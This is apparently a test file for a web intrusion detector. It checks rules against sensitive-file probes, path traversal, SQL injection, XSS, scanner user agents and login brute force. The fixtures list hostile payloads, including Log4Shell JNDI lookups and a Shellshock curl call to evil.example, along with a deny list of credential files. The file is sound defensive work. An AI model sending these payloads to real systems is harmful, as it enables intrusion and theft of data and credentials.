import { describe, expect, test } from "bun:test";
import {
  badUserAgentScenario,
  decodeForInspection,
  injectionScenario,
  loginBruteforceScenario,
  MEMO_KEY_MAX,
  MEMO_SIZE,
  memoise,
  type ObservedRequest,
  pathTraversalScenario,
  percentDecode,
  realtimeScenarios,
  sensitiveFileScenario,
} from "../../../src/core/detection/scenarios.ts";
import { settings } from "./fixtures.ts";

const tuning = { enabled: true, threshold: 1, windowMs: 600_000 };
const BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36";

function request(target: string, overrides: Partial<ObservedRequest> = {}): ObservedRequest {
  const mark = target.indexOf("?");
  return {
    method: "GET",
    path: mark === -1 ? target : target.slice(0, mark),
    query: mark === -1 ? "" : target.slice(mark + 1),
    status: 404,
    userAgent: BROWSER,
    ...overrides,
  };
}

/** Ordinary traffic no scenario may match. */
const BENIGN = [
  "/",
  "/index.html",
  "/products/123",
  "/products/123?color=red&size=42",
  "/search?q=red+shoes&page=2",
  "/search?q=O%27Brien",
  "/search?q=rock+%26+roll",
  "/search?q=don%27t+stop+or+go",
  "/search?q=caf%C3%A9",
  "/search?q=100%25+cotton",
  "/search?q=a%2Bb%3Dc",
  "/login?next=%2Faccount%2Fsettings",
  "/blog/2024/05/select-the-right-union",
  "/static/app.4f3a2b.js",
  "/static/fonts/inter-var.woff2",
  "/.well-known/security.txt",
  "/.well-known/acme-challenge/abc123",
  "/api/v1/orders?sort=-created_at&filter[status]=open",
  "/docs/env-vars",
  "/environment",
  "/git-guide",
  "/admin",
  "/admin/users/7",
  "/wp-content/uploads/2024/photo.jpg",
  "/robots.txt",
  "/sitemap.xml",
  "/favicon.ico",
  "/files/report.v2.final.pdf",
  "/event?on=click",
  "/api/search?expr=(a+OR+b)",
  "/comments?text=I+said+%22hello%22+to+her",
];

describe("sensitive_file", () => {
  const scenario = sensitiveFileScenario(tuning);
  test.each([
    "/.env",
    "/.env.local",
    "/api/.env.production.bak",
    "/.git/config",
    "/.git/HEAD",
    "/app/.git",
    "/.svn/entries",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/id_rsa",
    "/id_ed25519.pub",
    "/wp-config.php",
    "/wp-config.php.bak",
    "/wp-config.php~",
    "/config.php.bak",
    "/settings.yml.old",
    "/backup.sql",
    "/db.sql.gz",
    "/www.zip",
    "/.DS_Store",
    "/.htpasswd",
    "/.htaccess",
    "/server-status",
    "/server-info",
    "/phpinfo.php",
    "/.docker/config.json",
    "/.npmrc",
    "/actuator/env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  ])("%s matches whatever the answer", (path) => {
    expect(scenario.match(request(path, { status: 200 }))).toBe(path);
    expect(scenario.match(request(path, { status: 404 }))).toBe(path);
  });

  test.each(["/wp-login.php", "/wp-admin/", "/wp-admin/setup-config.php", "/xmlrpc.php", "/phpmyadmin/", "/pma", "/adminer.php", "/cgi-bin/luci", "/HNAP1", "/manager/html"])(
    "%s matches only when answered with an error (the site may run that software)",
    (path) => {
      expect(scenario.match(request(path, { status: 404 }))).toBe(path);
      expect(scenario.match(request(path, { status: 200 }))).toBeNull();
    },
  );

  test.each(BENIGN)("benign %s does not match", (target) => {
    expect(scenario.match(request(target))).toBeNull();
  });

  test("the reason counts, names the window and quotes the last path", () => {
    expect(sensitiveFileScenario({ enabled: true, threshold: 3, windowMs: 600_000 }).describe(3, "/.git/config")).toBe(
      "3 requests for sensitive files within 10m (threshold 3), last: /.git/config",
    );
  });
});

describe("path_traversal", () => {
  const scenario = pathTraversalScenario(tuning);
  test.each([
    "/download?file=../../etc/passwd",
    "/download?file=..%2F..%2Fetc%2Fpasswd",
    "/download?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/static/..%2f..%2fapp.config",
    "/static/%2e%2e/%2e%2e/secret",
    "/static/..%5c..%5cwindows%5cwin.ini",
    "/read?f=..\\..\\boot.ini",
    "/files/%252e%252e%252fetc%252fpasswd",
    "/x?p=%c0%ae%c0%ae/%c0%ae%c0%ae/etc",
    "/etc/passwd",
    "/cgi?f=/proc/self/environ",
    "/img?src=....//....//etc/shadow",
    "/files/a/..",
  ])("%s matches", (target) => {
    expect(scenario.match(request(target))).toBe(target);
  });

  test.each(BENIGN)("benign %s does not match", (target) => {
    expect(scenario.match(request(target))).toBeNull();
  });
});

describe("injection", () => {
  const scenario = injectionScenario(tuning);
  test.each([
    "/item?id=1'+or+1=1--",
    "/item?id=1%27%20OR%20%271%27%3D%271",
    "/item?id=1+UNION+SELECT+username,password+FROM+users",
    "/item?id=1/**/union/**/select/**/1,2",
    "/item?id=1+AND+SLEEP(5)",
    "/item?id=1;WAITFOR+DELAY+'0:0:5'",
    "/item?id=1);DROP+TABLE+users;--",
    "/item?id=1+or+2=2",
    "/item?id=%2527+or+%25271%2527=%25271",
    "/q?x=extractvalue(1,concat(0x7e,version()))",
    "/q?x=1'+and+benchmark(10000000,md5(1))#",
    "/item?name=admin'--",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/search?q=<svg/onload=alert(1)>",
    "/search?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E",
    "/redirect?to=javascript:alert(document.cookie)",
    "/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/x?a=${jndi:ldap://evil.example/a}",
    "/x?a=%7B%7B7*7%7D%7D",
  ])("%s matches", (target) => {
    expect(scenario.match(request(target))).toBe(target);
  });

  test.each(BENIGN)("benign %s does not match", (target) => {
    expect(scenario.match(request(target))).toBeNull();
  });
});

describe("bad_user_agent", () => {
  const scenario = badUserAgentScenario(tuning);
  test.each([
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Nuclei",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "gobuster/3.6",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 Acunetix-Product",
    "Fuzz Faster U Fool v2.1.0 ffuf",
    "${jndi:ldap://198.51.100.7:1389/a}",
    "() { :; }; /bin/bash -c 'curl http://evil.example'",
  ])("%s matches", (userAgent) => {
    expect(scenario.match(request("/", { userAgent }))).toBe(userAgent);
    expect(scenario.match(request("/", { userAgent }))).toBe(userAgent);
  });

  test.each([
    BROWSER,
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Googlebot/2.1 (+http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Go-http-client/1.1",
  ])("%s does not match", (userAgent) => {
    expect(scenario.match(request("/", { userAgent }))).toBeNull();
  });

  test("no user agent does not match", () => {
    expect(scenario.match(request("/", { userAgent: null }))).toBeNull();
  });
});

describe("login_bruteforce", () => {
  const scenario = loginBruteforceScenario({ enabled: true, threshold: 10, windowMs: 60_000 }, ["/login", "/api/login"]);
  test("POSTs to login paths match whatever the answer; other methods and paths do not", () => {
    expect(scenario.match(request("/api/login", { method: "POST", status: 401 }))).toBe("POST /api/login → 401");
    expect(scenario.match(request("/api/login/", { method: "POST", status: 200 }))).toBe("POST /api/login/ → 200");
    expect(scenario.match(request("/login", { method: "POST", status: 429 }))).toBe("POST /login → 429");
    expect(scenario.match(request("/api/login", { method: "GET", status: 200 }))).toBeNull();
    expect(scenario.match(request("/api/logout", { method: "POST", status: 200 }))).toBeNull();
    expect(scenario.match(request("/api/login/reset", { method: "POST", status: 200 }))).toBeNull();
  });

  test("the reason counts the attempts", () => {
    expect(scenario.describe(12, "POST /api/login → 401")).toBe("12 login attempts within 1m (threshold 10), last: POST /api/login → 401");
  });
});

describe("decoding", () => {
  test("percent-decoding tolerates malformed input and decodes twice for inspection", () => {
    expect(percentDecode("a%20b")).toBe("a b");
    expect(percentDecode("100%")).toBe("100%");
    expect(percentDecode("%c0%ae%zz")).toBe("\u00c0\u00ae%zz");
    expect(decodeForInspection("%2527", false)).toBe("'");
    expect(decodeForInspection("a+b%2Bc", true)).toBe("a b+c");
    expect(decodeForInspection("a+b", false)).toBe("a+b");
  });

  test("evidence in reasons is cut and stripped of control characters", () => {
    const scenario = injectionScenario(tuning);
    const reason = scenario.describe(1, `/x?${"a".repeat(300)}\u0000\n`);
    expect(reason.length).toBeLessThan(300);
    expect(reason).not.toMatch(/[\u0000-\u001f]/);
    expect(reason.endsWith("…")).toBe(true);
  });
});

describe("memoised matching", () => {
  test("a key is computed once while remembered", () => {
    const computed: string[] = [];
    const length = memoise((key) => (computed.push(key), key.length));
    expect([length("/a"), length("/bb"), length("/a"), length("/bb")]).toEqual([2, 3, 2, 3]);
    expect(computed).toEqual(["/a", "/bb"]);
  });

  test("stays bounded: emptied when full, so the first key is computed again after MEMO_SIZE others", () => {
    let calls = 0;
    const echo = memoise((key) => (calls++, key));
    for (let i = 0; i < MEMO_SIZE; i++) echo(`/p${i}`);
    expect(calls).toBe(MEMO_SIZE);
    echo("/p0");
    expect(calls).toBe(MEMO_SIZE);
    echo("/one-more");
    echo("/p0");
    expect(calls).toBe(MEMO_SIZE + 2);
  });

  test("keys longer than MEMO_KEY_MAX are computed every time", () => {
    let calls = 0;
    const echo = memoise((key) => (calls++, key));
    const long = `/${"x".repeat(MEMO_KEY_MAX)}`;
    expect([echo(long), echo(long)]).toEqual([long, long]);
    expect(calls).toBe(2);
  });

  test("repeated requests get the answers of fresh ones, whatever the status of earlier ones", () => {
    const fresh = () => [sensitiveFileScenario(tuning), pathTraversalScenario(tuning), injectionScenario(tuning), badUserAgentScenario(tuning)];
    const warm = fresh();
    const targets = [...BENIGN, "/.env", "/wp-login.php", "/static/..%2f..%2fapp.config", "/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/item?id=1+or+2=2"];
    for (let round = 0; round < 3; round++) {
      for (const target of targets) {
        for (const status of [200, 404, 200]) {
          for (const userAgent of [BROWSER, "sqlmap/1.7.2", null]) {
            const observed = request(target, { status, userAgent });
            expect(warm.map((scenario) => scenario.match(observed))).toEqual(fresh().map((scenario) => scenario.match(observed)));
          }
        }
      }
    }
  });
});

describe("realtimeScenarios", () => {
  test("the enabled scenarios with the configured tuning", () => {
    const scenarios = realtimeScenarios(settings({ scenarios: { injection: { enabled: false }, sensitive_file: { threshold: 5, window: "1h" } } }));
    expect(scenarios.map((scenario) => scenario.name)).toEqual(["sensitive_file", "path_traversal", "bad_user_agent", "login_bruteforce"]);
    expect(scenarios[0]).toMatchObject({ threshold: 5, windowMs: 3_600_000 });
    expect(scenarios[3]).toMatchObject({ threshold: 10, windowMs: 60_000 });
  });
});
